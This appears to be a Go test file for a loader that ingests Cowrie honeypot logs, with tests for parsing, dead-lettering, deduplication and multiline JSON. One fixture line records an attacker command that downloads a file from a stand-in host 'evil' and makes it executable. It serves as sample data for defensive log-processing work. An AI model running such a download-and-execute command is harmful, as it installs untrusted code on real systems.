package bulkload

import (
	"context"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/jonboulle/clockwork"
	"github.com/stretchr/testify/require"

	"github.com/cowrieproc/ingestcore/internal/model"
)

type memCommitter struct {
	mu      sync.Mutex
	seen    map[string]bool // key: source|offset|hash
	batches int
}

func newMemCommitter() *memCommitter {
	return &memCommitter{seen: map[string]bool{}}
}

func (m *memCommitter) CommitBatch(ctx context.Context, events []model.RawEvent, deltas []model.SessionDelta, cp model.Checkpoint) ([]bool, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.batches++
	inserted := make([]bool, len(events))
	for i, ev := range events {
		key := ev.Source + "|" + ev.PayloadHash
		if m.seen[key] {
			inserted[i] = false
			continue
		}
		m.seen[key] = true
		inserted[i] = true
	}
	return inserted, nil
}

type memDeadLetter struct {
	mu    sync.Mutex
	items []model.DeadLetterEvent
}

func (m *memDeadLetter) Insert(ctx context.Context, ev model.DeadLetterEvent) (int64, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.items = append(m.items, ev)
	return int64(len(m.items)), nil
}
func (m *memDeadLetter) CountByReason(ctx context.Context) (map[model.DeadLetterReason]int64, error) {
	return nil, nil
}
func (m *memDeadLetter) ForRepair(ctx context.Context, limit int) ([]model.DeadLetterEvent, error) {
	return nil, nil
}
func (m *memDeadLetter) IncrementRetry(ctx context.Context, id int64, at time.Time) error { return nil }
func (m *memDeadLetter) Promote(ctx context.Context, id int64) error                      { return nil }

func writeTempFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

func TestLoader_RunParsesLineJSONAndDeadLettersMalformedLine(t *testing.T) {
	dir := t.TempDir()
	lines := `{"eventid":"cowrie.session.connect","session":"s1","timestamp":"2024-01-01T00:00:00Z","src_ip":"1.2.3.4"}
{"eventid":"cowrie.command.input","session":"s1","timestamp":"2024-01-01T00:00:01Z","input":"wget http://evil/x; chmod +x x"}
not json at all
{"eventid":"cowrie.login.success","session":"s1","timestamp":"2024-01-01T00:00:02Z","username":"root","password":"123"}
`
	path := writeTempFile(t, dir, "cowrie.json", lines)

	committer := newMemCommitter()
	dlq := &memDeadLetter{}
	loader, err := New(Config{
		IngestID:   "run-1",
		Committer:  committer,
		DeadLetter: dlq,
		Clock:      clockwork.NewFakeClock(),
	})
	require.NoError(t, err)

	sum, err := loader.Run(context.Background(), []Source{{Path: path}})
	require.NoError(t, err)

	require.Equal(t, 1, sum.FilesProcessed)
	require.EqualValues(t, 3, sum.RecordsProcessed) // 3 valid lines, 1 malformed
	require.EqualValues(t, 3, sum.RecordsInserted)
	require.EqualValues(t, 1, sum.RecordsErrored)
	require.Len(t, dlq.items, 1)
	require.Equal(t, model.ReasonParse, dlq.items[0].Reason)
}

func TestLoader_RunDedupsOnResubmit(t *testing.T) {
	dir := t.TempDir()
	path := writeTempFile(t, dir, "cowrie.json",
		`{"eventid":"cowrie.session.connect","session":"s1","timestamp":"2024-01-01T00:00:00Z","src_ip":"1.2.3.4"}`+"\n")

	committer := newMemCommitter()
	dlq := &memDeadLetter{}
	loader, err := New(Config{IngestID: "run-1", Committer: committer, DeadLetter: dlq, Clock: clockwork.NewFakeClock()})
	require.NoError(t, err)

	_, err = loader.Run(context.Background(), []Source{{Path: path}})
	require.NoError(t, err)
	sum2, err := loader.Run(context.Background(), []Source{{Path: path}})
	require.NoError(t, err)

	require.EqualValues(t, 0, sum2.RecordsInserted)
	require.EqualValues(t, 1, sum2.RecordsSkipped)
}

func TestLoader_RunHandlesMultilineJSON(t *testing.T) {
	dir := t.TempDir()
	content := "{\n  \"eventid\": \"cowrie.session.connect\",\n  \"session\": \"s2\",\n  \"timestamp\": \"2024-01-01T00:00:00Z\",\n  \"src_ip\": \"5.6.7.8\"\n}\n"
	path := writeTempFile(t, dir, "cowrie.pretty.json", content)

	committer := newMemCommitter()
	dlq := &memDeadLetter{}
	loader, err := New(Config{IngestID: "run-1", Committer: committer, DeadLetter: dlq, Clock: clockwork.NewFakeClock()})
	require.NoError(t, err)

	sum, err := loader.Run(context.Background(), []Source{{Path: path}})
	require.NoError(t, err)
	require.EqualValues(t, 1, sum.RecordsProcessed)
	require.EqualValues(t, 1, sum.RecordsInserted)
}

func TestConfig_ValidateRequiresCommitterAndDeadLetter(t *testing.T) {
	_, err := New(Config{IngestID: "run-1"})
	require.Error(t, err)
}
